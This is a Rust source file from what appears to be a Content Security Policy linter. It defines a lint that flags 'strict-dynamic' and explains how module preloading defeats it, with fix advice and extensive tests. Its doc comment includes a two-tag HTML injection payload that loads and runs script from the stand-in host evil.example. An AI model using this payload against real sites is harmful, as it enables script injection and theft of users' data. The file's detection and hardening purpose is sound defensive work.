use super::csp_bypassable_host::{bypass, evaluates};
use crate::csp::attack::MODULEPRELOAD;
use crate::csp::{ALLOW_SCRIPTS, Clause, Csp, Directive, Disposition, Keyword, Purpose, SourceExpression};
use crate::diagnostic::Diagnostic;
use crate::lint::report::{Report, lint};
use crate::list::separated;
use crate::policy::{Form, SecurityPolicy};
use crate::sorted::Sorted;
use crate::span::{Span, Spanned};

lint! {
    /// # What it does
    ///
    /// Looks for `strict_dynamic` in the list that takes effect for script elements, unless another enforced policy
    /// blocks what it lets in.
    ///
    /// # Why it matters
    ///
    /// The standard has browsers fetch a module preload as if a trusted script had requested it, which `strict_dynamic`
    /// allows for every URL, including `data:`. A module script then takes what was fetched, and nothing is checked
    /// again. Chromium 156 behaves so. Fallback sources for old browsers, hashes in place of the nonce and Trusted
    /// Types do not stop it.
    ///
    /// # Attack
    ///
    /// An attacker who can inject two tags runs any script, without a nonce and without a report:
    ///
    /// ```html
    /// <link rel="modulepreload" href="https://evil.example/"><script type="module" src="https://evil.example/"></script>
    /// ```
    ///
    /// # Example
    ///
    /// ```text
    /// content_security_policy: { script_src: [nonce, strict_dynamic], base_uri: none },
    /// ```
    ///
    /// # Fix
    ///
    /// Remove `strict_dynamic`. Trusted scripts then pass the nonce to the scripts that they load, with
    /// `script.nonce = document.currentScript.nonce`, and workers need a `worker_src`, since they fall back to the list
    /// of scripts.
    ///
    /// A site that needs `strict_dynamic` sends a second policy, which names the hosts of all its scripts:
    ///
    /// ```text
    /// content_security_policy: [
    ///     { script_src: [nonce, strict_dynamic], base_uri: none },
    ///     { script_src: [self, nonce, "https://js.example.com"] },
    /// ],
    /// ```
    ///
    /// A second list that matches every host, such as `https`, stops nothing. No list stops files on the hosts that it
    /// names: a user-uploaded file on `self` still runs.
    ///
    /// # Allow
    ///
    /// ```text
    /// #[allow(csp_strict_dynamic, reason = "the tag manager loads from hosts that change weekly")]
    /// script_src: [nonce, strict_dynamic],
    /// ```
    ///
    /// Reasonable where the hosts of scripts cannot be listed: `strict_dynamic` with a nonce still stops injected
    /// inline scripts and handlers.
    ///
    /// # References
    ///
    /// - [`'strict-dynamic'` might be bypassed with modulepreload](https://github.com/w3c/webappsec-csp/issues/823)
    /// - [HTML, modulepreload](https://html.spec.whatwg.org/multipage/links.html#link-type-modulepreload)
    /// - [CSP3, section 6.7.1.1](https://w3c.github.io/webappsec-csp/#script-pre-request)
    Deny "two injected tags run any script",
    cwe [829], asvs ["3.4.3"],
    check
}

fn check(policy: &SecurityPolicy, report: &mut Report<'_>) {
    let lists = policy.csps().into_iter().filter_map(|csp| csp.effective_clause(Directive::ScriptSrcElem));
    let lists = lists.filter_map(|list| Some((list, list.keyword(Keyword::StrictDynamic)?)));
    let lists: Vec<(&Clause, Span)> = lists.collect();
    let enforced = policy.csps_of(Disposition::Enforce);
    if lists.is_empty() || enforced.iter().any(|csp| stops(csp, policy.form)) {
        return;
    }
    let leak = enforced.iter().find_map(|csp| leak(csp, policy.form));
    let mut reported: Sorted<Span> = Sorted::new();
    for (list, span) in lists {
        if !reported.insert(span) {
            continue;
        }
        report.push(
            Diagnostic::finding(
                span,
                format!("`strict_dynamic` in `{}` lets two injected tags run any script", list.directive.node.key()),
            )
            .help(help(list, leak))
            .note(format!("an injected `{}` fetches a module from anywhere and runs it; a second policy stops that, except for files on the hosts that it names, such as uploads", MODULEPRELOAD.of_attacker())),
        );
    }
}

/// Whether a policy stops a module that was preloaded from the attacker's host.
fn stops(csp: &Csp, form: Form) -> bool {
    csp.sandboxes(&ALLOW_SCRIPTS)
        || csp.effective_clause(Directive::ScriptSrcElem).is_some_and(|list| {
            let evaluates = evaluates(list);
            !trusts_loaders(list) && !list.sources().iter().any(|source| lets_in(source, evaluates, form))
        })
}

/// The source by which a policy that compares URLs still lets such a module in.
fn leak(csp: &Csp, form: Form) -> Option<&SourceExpression> {
    let list = csp.effective_clause(Directive::ScriptSrcElem).filter(|list| !trusts_loaders(list))?;
    let evaluates = evaluates(list);
    list.sources().iter().find(|source| lets_in(source, evaluates, form)).map(|source| &source.node)
}

fn trusts_loaders(list: &Clause) -> bool {
    [Keyword::StrictDynamic, Keyword::StrictDynamicUrl].into_iter().any(|keyword| list.keyword(keyword).is_some())
}

/// Whether an attacker can serve a script that this source matches, or knows the nonce that it requires.
fn lets_in(source: &Spanned<SourceExpression>, evaluates: bool, form: Form) -> bool {
    match &source.node {
        SourceExpression::Host(host) => source.node.lets_anyone_in() || bypass(host, evaluates).is_some(),
        SourceExpression::FixedNonce(_) => form == Form::Declaration,
        _ => source.node.lets_anyone_in(),
    }
}

/// What to write instead: the list without `strict_dynamic`, and without what browsers ignore because of it, which would
/// take effect again. `leak` is the source by which another policy fails to stop it.
fn help(list: &Clause, leak: Option<&SourceExpression>) -> String {
    let key = match list.directive.node {
        Directive::DefaultSrc => Directive::ScriptSrc.key(),
        directive => directive.key(),
    };
    let is_kept = |source: &&Spanned<SourceExpression>| {
        // A slot is filled with a host, which browsers ignore like any other.
        !source.node.is_slot()
            && source.node != SourceExpression::Keyword(Keyword::StrictDynamic)
            && list.overridden_by(&source.node, Purpose::Script).is_none()
    };
    let kept: Vec<_> = list.sources().iter().filter(is_kept).collect();
    let sources = separated(&kept, ", ", &|source| source.node.dsl());
    let instead = match (list.nonce_or_hash(), kept.as_slice()) {
        (None, _) => format!("`{key}: nonce`"),
        (Some(_), [_]) => format!("`{key}: {sources}`"),
        (Some(_), _) => format!("`{key}: [{sources}]`"),
    };
    let (trusted, loaded) = match list.has_nonce() || list.nonce_or_hash().is_none() {
        true => ("nonce", "make scripts pass the nonce to the scripts that they load"),
        false => ("…", "list the hashes of the scripts that they load too"),
    };
    let second = match leak {
        Some(source) => {
            format!(
                "name the hosts in the other policy instead of `{}`, where an attacker finds a script",
                source.dsl()
            )
        }
        None => format!("add a second policy that names the hosts: `[{{ … }}, {{ script_src: [self, {trusted}] }}]`"),
    };
    format!("write {instead}, and {loaded}; or {second}")
}

#[cfg(feature = "response")]
#[cfg(test)]
mod tests {
    use crate::response::Response;

    const FIRST: &str = "script-src 'nonce-hLb2n4Yz0rJgq1Qm5sT7vQ' 'strict-dynamic'; base-uri 'none'";

    fn fires(headers: &[(&str, &str)]) -> bool {
        let response = Response::audit(headers.iter().copied(), None);
        response.diagnostics.iter().any(|found| found.lint == Some("csp_strict_dynamic"))
    }

    /// As Chromium 156 runs, or blocks, a module that was preloaded from another host.
    #[test]
    fn what_a_second_policy_stops() {
        for (second, is_open) in [
            ("script-src 'self' 'nonce-hLb2n4Yz0rJgq1Qm5sT7vQ'", false),
            ("script-src 'nonce-hLb2n4Yz0rJgq1Qm5sT7vQ'", false),
            ("script-src 'sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU='", false),
            ("script-src https://js.example.com *.example.com", false),
            ("script-src 'unsafe-inline'", false),
            ("script-src-elem 'self'", false),
            ("script-src https:; script-src-elem 'self'", false),
            ("default-src 'self'", false),
            ("default-src 'none'", false),
            ("sandbox allow-forms", false),
            ("script-src blob: 'self'", false),
            // An attacker has what these require.
            ("script-src https: 'nonce-hLb2n4Yz0rJgq1Qm5sT7vQ'", true),
            ("script-src http:", true),
            ("script-src *", true),
            ("script-src https://*", true),
            ("script-src *.com", true),
            ("script-src 'self' data:", true),
            ("script-src 'self' https://cdn.jsdelivr.net", true),
            ("script-src 'self' *.github.io", true),
            ("default-src *", true),
            // These trust loaders too, or do not restrict script elements.
            (FIRST, true),
            ("script-src 'strict-dynamic' 'self'", true),
            ("script-src 'self'; script-src-elem 'nonce-hLb2n4Yz0rJgq1Qm5sT7vQ' 'strict-dynamic'", true),
            ("script-src 'self'; script-src-elem *", true),
            ("script-src-attr 'none'", true),
            ("worker-src 'self'; style-src 'self'", true),
            ("sandbox allow-scripts", true),
            ("require-trusted-types-for 'script'", true),
        ] {
            let joined = format!("{FIRST}, {second}");
            let name = "content-security-policy";
            assert_eq!(fires(&[(name, FIRST), (name, second)]), is_open, "{second}");
            assert_eq!(fires(&[(name, &joined)]), is_open, "{joined}");
            let reversed = format!("{second}, {FIRST}");
            assert_eq!(fires(&[(name, &reversed)]), is_open, "{reversed}");
            // A report-only policy stops nothing.
            assert!(fires(&[(name, FIRST), ("content-security-policy-report-only", second)]), "{second}");
        }
    }

    #[test]
    fn which_list_counts() {
        for (text, is_open) in [
            (FIRST, true),
            ("default-src 'self' 'nonce-hLb2n4Yz0rJgq1Qm5sT7vQ' 'STRICT-DYNAMIC'", true),
            (
                "script-src 'sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=' 'strict-dynamic' https: 'unsafe-inline'",
                true,
            ),
            ("script-src 'self'; script-src-elem 'nonce-hLb2n4Yz0rJgq1Qm5sT7vQ' 'strict-dynamic'", true),
            ("script-src 'strict-dynamic'", true),
            ("script-src 'nonce-hLb2n4Yz0rJgq1Qm5sT7vQ' 'strict-dynamic'; script-src-elem 'self'", false),
            ("script-src 'nonce-hLb2n4Yz0rJgq1Qm5sT7vQ'", false),
            ("style-src 'strict-dynamic'", false),
            ("sandbox; script-src 'nonce-hLb2n4Yz0rJgq1Qm5sT7vQ' 'strict-dynamic'", false),
        ] {
            assert_eq!(fires(&[("content-security-policy", text)]), is_open, "{text}");
        }
    }

    #[test]
    fn what_to_write_instead_lets_in_no_more() {
        for (list, instead) in [
            ("'nonce-hLb2n4Yz0rJgq1Qm5sT7vQ' 'strict-dynamic'", "`script-src 'nonce-hLb2n4Yz0rJgq1Qm5sT7vQ'`"),
            (
                "'nonce-hLb2n4Yz0rJgq1Qm5sT7vQ' 'strict-dynamic' https: 'unsafe-inline' 'self' 'wasm-unsafe-eval'",
                "`script-src 'nonce-hLb2n4Yz0rJgq1Qm5sT7vQ' 'wasm-unsafe-eval'`",
            ),
            ("'self' 'strict-dynamic'", "`script-src 'nonce-…'`"),
        ] {
            let text = format!("script-src {list}");
            let response = Response::audit_csp(&text);
            let found = response.diagnostics.iter().find(|found| found.lint == Some("csp_strict_dynamic"));
            let help = found.and_then(|found| found.help.as_deref()).expect("a finding with help");
            assert!(help.starts_with(&format!("write {instead}, ")), "{help}");
        }
    }
}
